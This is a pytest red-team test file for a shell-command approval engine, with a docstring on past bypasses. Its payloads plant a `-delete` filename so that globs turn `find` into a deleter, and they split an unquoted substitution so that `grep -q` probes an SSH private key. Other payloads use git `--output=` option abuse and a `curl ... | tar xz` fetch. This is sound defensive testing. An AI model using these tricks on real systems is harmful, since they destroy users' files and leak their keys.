"""stop 48, xf48a (issue 8): the shell-expansion strict xfails stop 47 left open, and two review mends of the planted
dash-name reading (shell.Analyzer._dash_globbed).

Found allowed, and fixed (each deleted a folder or read the key live, below):

1. An array's or a loop's glob is expanded where it is assigned: with a file `-delete` planted, `a=(*); find .
   ${a[@]}`, `a=(-del*); find . "${a[@]}"` (adv47's strict xfails), `a+=(-del*)`, `declare -a a=(*)`, `local -a`
   in a function, `"${a[0]}"`, and a loop's quoted variable `for x in -del*; do find . "$x"; done` were allowed
   (the array was dropped as unknown; a loop's value was the glob's text, globbed only where `$x` was unquoted).
   Now the names starting with `-` the glob matches there are the array's (or the loop's) known values, before
   the glob (Analyzer._assign_arrays, _read_loops through _dash_globbed(start=0)).
2. A glob after a command that writes names the line does not show (a Programs entry's `unpacks_here`: git, tar,
   cpio, unzip, 7z ...) in that folder or one above it: `git checkout evil; find . -del*` (adv47's strict xfail),
   `git pull; find . -delet?`, `tar xf a.tar && find . -del*`, `git checkout evil; cd sub && find . -del*` were
   allowed though the branch or archive may hold `-delete`. Now a glob word that may expand to a name starting with
   `-` there, given to a program whose entry is `active` (an option of it runs something: find, tar, git, xargs),
   asks (glob_of_unknown_names); `*.py`, `./*`, `-- *`, `src*`, and `git status && ls *` (ls runs nothing) stay
   allowed.
3. grep's quiet_with sealed an unquoted expansion: `grep -q $(cat k.txt) install.ps1 && echo yes` (adv47b's
   strict xfail: k.txt `-e secret KEY` splits into options and files, an oracle on the key). Now only a pattern a
   whole quoted expansion gave is sealed (Command.quoted_words): `grep -q "$(cat k.txt)" f` stays allowed.
4. Review mends: the names earlier commands create are collected once, as each command is made (Analyzer._emit,
   _dash_made), not walked again for every glob command (quadratic on a long line); the per-word regex
   `_DASH_GLOB.search` is a plain character test (shell._dash_glob: a regex only for a word holding `(`).

Open at stop 48, closed at stop 49 (xf49, CLOSED49 below): a name matching `*.py` read as an option after a checkout
(`git checkout evil; tar cf a.tar *.py` with `--checkpoint-action=exec=sh x.py` in the branch); `cp -r e/. sub/; cd
sub && find . -del*` and `rsync -a e/ sub/` (their `unpacks_into:` destination); `git checkout evil; cd sub && rm *`
(rm's `reads_planted:`).
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import Engine
from tests.redteam.conftest import home_intact
from tests.redteam.harm import Case, assert_verdict, case_verdict, policy_project, run_confined, verdict_cases


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Engine]]:
    with policy_project(tmp_path_factory, "xf48a", "kind: ApprovalPolicy\n") as project:
        yield project


# -- 1. an array's and a loop's glob -------------------------------------------------------------------------------
_PLANTED = {"-delete": "", "a.txt": "x\n"}
ARRAY_PAYLOADS: dict[str, Case] = {
    "array-of-a-glob": (_PLANTED, "a=(*); find . ${a[@]}"),
    "array-of-a-glob-quoted": (_PLANTED, 'a=(-del*); find . "${a[@]}"'),
    "array-element": (_PLANTED, 'a=(-del*); find . "${a[0]}"'),
    "array-append": (_PLANTED, 'a=(x); a+=(-del*); find . "${a[@]}"'),
    "array-append-unset": (_PLANTED, 'a+=(-del*); find . "${a[@]}"'),
    "declare": (_PLANTED, 'declare -a a=(*); find . "${a[@]}"'),
    "local-in-function": (_PLANTED, 'f() { local -a a=(-del*); find . "${a[@]}"; }; f'),
    "array-in-sub": ({"sub/-delete": "", "sub/a.txt": "x\n"}, 'cd sub && a=(*) && find . "${a[@]}"'),
    "loop-quoted": (_PLANTED, 'for x in -del*; do find . "$x"; done'),
    "loop-star-quoted": (_PLANTED, 'for x in *; do find . "$x"; done'),
    "loop-in-sub": ({"sub/-delete": ""}, 'cd sub && for f in -*; do find . "$f"; done'),
    "set-positional": (_PLANTED, 'set -- -del*; find . "$@"'),
}
_OTHER = {"-v": "", "a.txt": "x\n", "b.txt": "y\n"}
ARRAY_NEAR: dict[str, Case] = {
    "array-of-txt": (_OTHER, 'a=(*.txt); wc -l "${a[@]}"'),
    "array-dotted": (_PLANTED, 'a=(./*); ls -l "${a[@]}"'),
    "array-with-folder": ({"sub/-delete": "", "sub/a.txt": "x\n"}, 'a=(sub/*); find "${a[@]}" -name x'),
    "array-quoted-pattern": (_PLANTED, "a=('-del*'); find . -name \"${a[@]}\""),
    "array-planted-elsewhere": ({"sub/-delete": "", "a.txt": "x\n"}, 'a=(*); find . "${a[@]}"'),
    "array-loop": (_OTHER, 'files=(*.txt); for f in "${files[@]}"; do wc -l "$f"; done'),
    "loop-txt-quoted": (_OTHER, 'for f in *.txt; do wc -l "$f"; done'),
    "loop-dotted": (_PLANTED, 'for f in ./*; do find "$f" -name x; done'),
    "loop-prefix": (_PLANTED, 'for f in a*; do cat "$f"; done'),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(ARRAY_PAYLOADS, ARRAY_NEAR))
def test_array_and_loop_globs(loaded: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(loaded, case, allowed, session)


@pytest.mark.parametrize(
    "payload",
    [
        "a=(-*); find . ${a[@]}",
        'a=(-del*); find . "${a[@]}"',
        'for x in *; do find . "$x"; done',
        'declare -a a=(-d*); find . "${a[@]}"',
    ],
)
def test_an_array_or_loop_glob_deletes_live_and_is_not_allowed(
    tmp_path: Path, loaded: tuple[Path, Engine], payload: str
) -> None:
    """The ground: bash globs the array's (the loop's) words where they are assigned; find reads `-delete` (`a=(*)`
    would give find `-delete d` too, a usage error: the live forms match the planted name alone)."""
    _, cwd, _ = run_confined(tmp_path, f"mkdir -p d && : > d/keep && : > ./-delete\n{payload}")
    assert not (cwd / "d").exists(), payload
    _, cwd, _ = run_confined(tmp_path / "near", f"mkdir -p d && : > d/keep && : > ./-notes\n{payload}")
    assert (cwd / "d" / "keep").is_file(), payload  # without the planted name, nothing is deleted
    root, engine = loaded
    (root / "-delete").write_text("")
    try:
        assert engine.check(payload).decision != "allow", payload
    finally:
        (root / "-delete").unlink()
    assert engine.check(payload).decision == "allow", payload  # (no name starting with `-` there: nothing read)


# -- 2. a glob after a command writing names the line does not show ----------------------------------------------------
_TREE = {"a.txt": "x\n", "sub/b.txt": "y\n"}
UNKNOWN_PAYLOADS: dict[str, Case] = {
    "checkout": (_TREE, "git checkout evil; find . -del*"),
    "switch": (_TREE, "git switch evil && find . -del*"),
    "pull": (_TREE, "git pull; find . -delet?"),
    "stash-pop": (_TREE, "git stash pop; find . -del*"),
    "checkout-then-cd": (_TREE, "git checkout evil; cd sub && find . -del*"),
    "dash-c": (_TREE, "git -C sub checkout evil; cd sub; find . -del*"),
    "tar-x": (_TREE, "tar xf a.tar && find . -del*"),
    "unzip": (_TREE, "unzip -q a.zip; find . -del*"),
    "curl-tar": (_TREE, "curl -s http://h/a.tgz | tar xz; tar cf b.tar *"),
    "bracket": (_TREE, "git checkout evil; find . [-]delete"),
    # (merge48) a verb not in git's `keeps_tree:` (an alias too) may write names the line does not show
    "alias": (_TREE, "git co evil; find . -del*"),
    "c-switch": (_TREE, "git -c x.y=z switch evil; find . -del*"),
    # (adv48c) verbs whose options write a file no row reads as a write: not in git's `keeps_tree:` (each emptied the
    # folder live in tests/redteam/test_adv48c.py on its branch)
    "diff-tree-output": (_TREE, "git diff-tree --output=-delete HEAD; find . -del*"),
    "rev-list-output": (_TREE, "git rev-list --output=-delete HEAD; find . -del*"),
    "config-file": (_TREE, "git config --file=-delete a.b c; find . -del*"),
    "config-f": (_TREE, "git config -f -delete a.b c; find . -del*"),
    "init-separate": (_TREE, "git init --separate-git-dir=-delete; find . -del*"),
}
UNKNOWN_NEAR: dict[str, Case] = {
    "ls-py": (_TREE, "git checkout main; ls *.py"),
    "cat-md": (_TREE, "git pull && cat *.md"),
    "grep-py": (_TREE, "git checkout -b x; grep -n foo *.py"),
    "dotted": (_TREE, "git checkout evil; ls ./*"),
    "dashdash": (_TREE, "git checkout evil; ls -- *"),
    "prefix": (_TREE, "git checkout evil; ls src*"),
    "quoted-name": (_TREE, "git checkout evil; find . -name '*.txt'"),
    "elsewhere": (_TREE, "cd sub && tar xf ../a.tar; cd .. && find . -del*"),
    "glob-before": (_TREE, "ls *; git checkout main"),
    "status-ls": (_TREE, "git status && ls *"),
    "diff-grep": (_TREE, "git diff; grep -rn TODO *"),
    "log-cat": (_TREE, "git log --oneline | head; cat *"),
    # (merge48) a verb of git's `keeps_tree:` writes no file of the work tree: the folder's names are as read
    "status-find": (_TREE, "git status; find . -del*"),
    "add-commit-tar": (_TREE, "git add -A && git commit -qm x && tar cf a.tar *"),
    "dash-c-status": (_TREE, "git -C . status --short; find . -del*"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(UNKNOWN_PAYLOADS, UNKNOWN_NEAR))
def test_globs_after_unknown_names(loaded: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(loaded, case, allowed, session)


_GIT = "git -c user.name=a -c user.email=a@b"


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_a_checked_out_option_name_deletes_live_and_is_not_allowed(tmp_path: Path, loaded: tuple[Path, Engine]) -> None:
    """The ground: the branch holds a file `-delete`; after the checkout, `find . -del*` is `find . -delete`."""
    setup = (
        f"git init -q && {_GIT} commit -q --allow-empty -m a && git checkout -q -b evil && : > ./-delete && "
        f"git add -- -delete && {_GIT} commit -qm b && git checkout -q - && mkdir -p d && : > d/keep\n"
    )
    _, cwd, printed = run_confined(tmp_path, setup + "git checkout -q evil; find . -del*")
    assert not (cwd / "d").exists(), printed
    _, cwd, _ = run_confined(tmp_path / "near", setup + "git checkout -q evil; ls ./*")
    assert (cwd / "d" / "keep").is_file()
    assert loaded[1].check("git checkout -q evil; find . -del*").decision != "allow"
    assert loaded[1].check("git checkout -q evil; ls ./*").decision == "allow"


# -- 3. a quiet grep's unquoted expansion ---------------------------------------------------------------------------
_KEYED = {"k.txt": "-e secret ../home/.ssh/id_ed25519\n", "install.ps1": "x\n"}
QUIET_PAYLOADS: dict[str, Case] = {
    "substitution": (_KEYED, "grep -q $(cat k.txt) install.ps1 && echo yes"),
    "variable": (_KEYED, "x=$(cat k.txt); grep -q $x install.ps1 && echo yes"),
    "after-dashdash": (_KEYED, "grep -q -- $(cat k.txt) install.ps1"),
    "read-input": (_KEYED, "grep -qs $(<k.txt) install.ps1"),
}
QUIET_NEAR: dict[str, Case] = {
    "quoted-substitution": (_KEYED, 'grep -q "$(cat k.txt)" install.ps1 && echo yes'),
    "quoted-variable": (_KEYED, 'x=$(cat k.txt); grep -qF "$x" install.ps1'),
    "plain": (_KEYED, "grep -q foo install.ps1"),
}


@pytest.mark.parametrize(("case", "allowed", "session"), verdict_cases(QUIET_PAYLOADS, QUIET_NEAR))
def test_quiet_grep_expansions(loaded: tuple[Path, Engine], case: Case, allowed: bool, session: str) -> None:
    assert_verdict(loaded, case, allowed, session)


def test_a_quoted_quiet_grep_reads_no_key(tmp_path: Path) -> None:
    """The near miss's ground: quoted, the substitution is one pattern (`-e secret KEY` as `-e`'s value), the key is
    no file grep opens; unquoted (adv47b's live test), it is."""
    setup = "printf '%s\\n' \"-e secret $HOME/.ssh/id_ed25519\" > k.txt && touch install.ps1 && "
    home, _, printed = run_confined(tmp_path, setup + 'grep -q "$(cat k.txt)" install.ps1 && echo yes')
    assert printed.strip() == "" and home_intact(home)
    _, _, printed = run_confined(tmp_path / "split", setup + "grep -q $(cat k.txt) install.ps1 && echo yes")
    assert printed.strip() == "yes"


# -- 4. the names made on a long line, collected once ------------------------------------------------------------
def test_a_name_made_early_on_a_long_line_is_read(loaded: tuple[Path, Engine]) -> None:
    """The names earlier commands create are kept as each is made: one made before many other commands is still
    read where a later glob expands (and one made in another folder is not)."""
    _, engine = loaded
    filler = "; ".join(f"echo {n}" for n in range(40))
    assert engine.check(f"touch ./-delete; {filler}; find . -del*").decision != "allow"
    assert engine.check(f"touch -- -delete; {filler}; ls *.txt; find . -del*").decision != "allow"
    assert engine.check(f"mkdir -p s && touch s/-delete; {filler}; find . -del*").decision == "allow"


# -- closed at stop 49 (xf49: tests/redteam/test_xf49.py has their live harms and near misses) -------------------------
CLOSED49: dict[str, Case] = {
    "tar-py-after-checkout": (_TREE, "git checkout evil; tar cf a.tar *.py"),
    "cp-r-then-glob": (_TREE, "cp -r e/. sub/; cd sub && find . -del*"),
    "rsync-then-glob": (_TREE, "rsync -a e/ sub/; cd sub && find . -del*"),
    "rm-after-checkout": (_TREE, "git checkout evil; cd sub && rm *"),
}


@pytest.mark.parametrize("name", list(CLOSED49))
def test_closed_unknown_names(loaded: tuple[Path, Engine], name: str) -> None:
    """(xf49) a glob holding a `.` given to a program an option of which takes any value; cp -r's and rsync's
    destination (`unpacks_into:`); rm (`reads_planted:`)."""
    assert case_verdict(loaded, CLOSED49[name], f"closed-{name}") != "allow"
